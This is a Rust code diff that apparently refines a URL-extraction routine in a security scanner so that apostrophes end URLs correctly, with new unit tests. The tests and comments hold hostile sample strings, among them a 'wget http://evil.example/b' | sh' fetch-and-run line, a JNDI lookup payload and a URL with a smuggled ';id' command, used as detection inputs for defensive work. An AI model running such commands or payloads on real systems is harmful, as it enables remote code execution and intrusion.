@@ -52,7 +52,7 @@ impl Url {
         let (scheme, rest) = url.split_once("://")?;
         Self::of(scheme, rest).or_else(|| {
             // `http://evil.example;id`: what no host has ends the URL.
-            let end = rest.find([',', ';', '&', '(', ')', '=', '*', '$', '/', '?', '#'])?;
+            let end = rest.find([',', ';', '&', '(', ')', '=', '*', '$', '\'', '/', '?', '#'])?;
             Self::of(scheme, &rest[..end])
         })
     }
@@ -161,7 +161,7 @@ pub(crate) fn all(text: &str) -> impl Iterator<Item = &str> {
                 inside += 1;
             } else {
                 inside = 0;
-                end = at + end_of(&text[at..]);
+                end = at + end_of(&text[at..], text[..at - scheme].ends_with('\''));
             }
             let url = &text[at - scheme..end];
             let scheme = &url[..scheme];
@@ -172,9 +172,12 @@ pub(crate) fn all(text: &str) -> impl Iterator<Item = &str> {
     })
 }
 
-/// Length of what starts with `://` and belongs to a URL, as people say where one ends.
-fn end_of(text: &str) -> usize {
-    let url = &text[..text.find(ends).unwrap_or(text.len())];
+/// Length of what starts with `://` and belongs to a URL, as people say where one ends. One that an apostrophe stands before ends at the
+/// next; in any other it is a letter like others where the URL goes on behind it, since what is cut there is another URL.
+fn end_of(text: &str, quoted: bool) -> usize {
+    let mut ends = text.match_indices(ends);
+    let end = ends.find(|(at, end)| quoted || *end != "'" || !goes_on(&text[at + 1..]));
+    let url = &text[..end.map_or(text.len(), |(at, _)| at)];
     let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'']);
     let url = if url.contains('(') {
         url
@@ -182,6 +185,10 @@ fn end_of(text: &str) -> usize {
         url.trim_end_matches(')')
     };
     url.len().max(3)
+}
+
+fn goes_on(after: &str) -> bool {
+    after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '%' | '/' | '_' | '-' | '.' | '~'))
 }
 
 /// Finds the places that look-ups lead to, whatever they put before `://` and behind a loopback: `${jndi:${lower:l}dap://evil.example/a}`,
@@ -218,8 +225,9 @@ pub(crate) fn escaped(text: &str) -> Vec<String> {
             .take_while(|byte| byte.is_ascii_alphabetic())
             .count();
         let end = text[at..]
-            .find(|c| ends(c) || c == '&')
-            .map_or(text.len(), |length| at + length);
+            .match_indices(|c| ends(c) || c == '&')
+            .find(|(length, end)| *end != "'" || !goes_on(&text[at + length + 1..]))
+            .map_or(text.len(), |(length, _)| at + length);
         let once = decoded(&text[at - scheme..end]);
         let plain = if once.contains("://") {
             once
@@ -350,6 +358,24 @@ mod tests {
     }
 
     #[test]
+    fn an_apostrophe_ends_a_url_only_where_one_began_it_or_nothing_follows() {
+        for (text, expected) in [
+            ("/a?x=http://evil.example/b'c", "http://evil.example/b'c"),
+            ("http://evil.example/it's/d'%41'", "http://evil.example/it's/d'%41"),
+            ("fetch('http://evil.example/b'c)", "http://evil.example/b"),
+            ("wget http://evil.example/b' | sh", "http://evil.example/b"),
+            ("'x http://evil.example/b'+'c'", "http://evil.example/b"),
+            ("('http://evil.example/b','c')", "http://evil.example/b"),
+        ] {
+            assert_eq!(all(text).collect::<Vec<_>>(), [expected], "{text}");
+        }
+        assert_eq!(
+            escaped("x=http%3A%2F%2Fevil.example%2Fb'c&y=1 http%3A%2F%2Fevil.example%2Fd%27e"),
+            ["http://evil.example/b'c", "http://evil.example/d'e"]
+        );
+    }
+
+    #[test]
     fn urls_inside_of_urls_count_too_and_so_does_what_stands_behind_an_unknown_scheme() {
         for (text, expected) in [
             (
@@ -412,6 +438,7 @@ mod tests {
                 &[
                     "http://evil.example;id",
                     "http://evil.example,x/y",
+                    "http://evil.example'x",
                     "http://evil.example).Content",
                     "http://evil.example;a@b",
                 ],
